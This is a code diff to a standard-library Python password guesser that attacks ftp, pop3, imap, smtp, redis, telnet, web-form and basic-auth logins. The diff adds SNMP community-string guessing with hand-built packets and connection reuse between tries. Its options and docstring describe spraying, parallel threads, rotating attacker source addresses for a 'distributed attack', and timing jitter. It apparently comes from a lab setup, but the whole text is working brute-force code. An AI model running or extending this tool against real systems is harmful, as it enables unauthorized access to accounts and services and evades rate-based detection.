@@ -1,4 +1,4 @@
-"""A plain password guesser for ftp, pop3, imap, smtp, redis, telnet, web forms and basic authentication.
+"""A plain password guesser for ftp, pop3, imap, smtp, redis, telnet, snmp, web forms and basic authentication.
 
 Started as a file inside a namespace of the lab, so it imports nothing but the standard library. Sources (one or more addresses
 of the attacking host) take turns, and so do victims, which makes a spread or a distributed attack of it.
@@ -21,6 +21,9 @@ import threading
 import time
 from collections.abc import Callable
 from pathlib import Path
+
+KEPT = threading.local()
+"""What a thread keeps between two tries: a connection, a socket."""
 
 Try = Callable[[str, int, str, str, "str | None"], None]
 
@@ -82,11 +85,22 @@ def telnet(host: str, port: int, user: str, password: str, source: str | None) -
     _lines(host, port, source, [user, password, "exit"], first=True)
 
 
+def snmp(host: str, port: int, user: str, password: str, source: str | None) -> None:
+    """Asks for sysDescr.0 with the password as community (SNMPv1, RFC 1157), always from one socket; reads no answer."""
+    made: socket.socket = KEPT.__dict__.setdefault("snmp", socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
+    asked = bytes.fromhex("a01902010102010002010030 0e300c06082b060102010101000500")
+    body = b"\x02\x01\x00\x04" + bytes([len(password)]) + password.encode() + asked
+    made.sendto(b"\x30" + bytes([len(body)]) + body, (host, port))
+
+
 def _asked(host: str, port: int, source: str | None, method: str, path: str, body: str, headers: dict[str, str]) -> None:
-    made = http.client.HTTPConnection(host, port, timeout=8, source_address=_source(source))
+    made = KEPT.__dict__.get("http") or http.client.HTTPConnection(host, port, timeout=8, source_address=_source(source))
     made.request(method, path, body or None, {"User-Agent": "Mozilla/5.0", **headers})
     made.getresponse().read()
-    made.close()
+    if KEPT.__dict__.get("keeps"):
+        KEPT.__dict__["http"] = made
+    else:
+        made.close()
 
 
 def form(host: str, port: int, user: str, password: str, source: str | None) -> None:
@@ -101,7 +115,7 @@ def basic(host: str, port: int, user: str, password: str, source: str | None) ->
     _asked(host, port, source, "GET", "/admin/", "", {"Authorization": f"Basic {coded}"})
 
 
-KINDS: dict[str, Try] = {made.__name__: made for made in (ftp, pop3, imap, smtp, redis, telnet, form, basic)}
+KINDS: dict[str, Try] = {made.__name__: made for made in (ftp, pop3, imap, smtp, redis, telnet, snmp, form, basic)}
 REFUSED = (
     OSError,
     EOFError,
@@ -123,6 +137,7 @@ def main() -> None:
     parser.add_argument("--passwords", type=Path, required=True)
     parser.add_argument("--spray", action="store_true", help="one password for every user, then the next password")
     parser.add_argument("--sources", default="")
+    parser.add_argument("--kept", action="store_true", help="form and basic: all tries of a thread on one connection")
     parser.add_argument("--parallel", type=int, default=1)
     parser.add_argument("--pause", type=float, default=0.0, help="seconds after each try of a thread")
     parser.add_argument("--jitter", type=float, default=0.0, help="share by which the pause varies")
@@ -135,6 +150,7 @@ def main() -> None:
     until, lock = time.monotonic() + options.seconds, threading.Lock()
 
     def work() -> None:
+        KEPT.__dict__["keeps"] = options.kept
         while time.monotonic() < until:
             with lock:
                 (host, user, password), source = next(turns), next(sources)
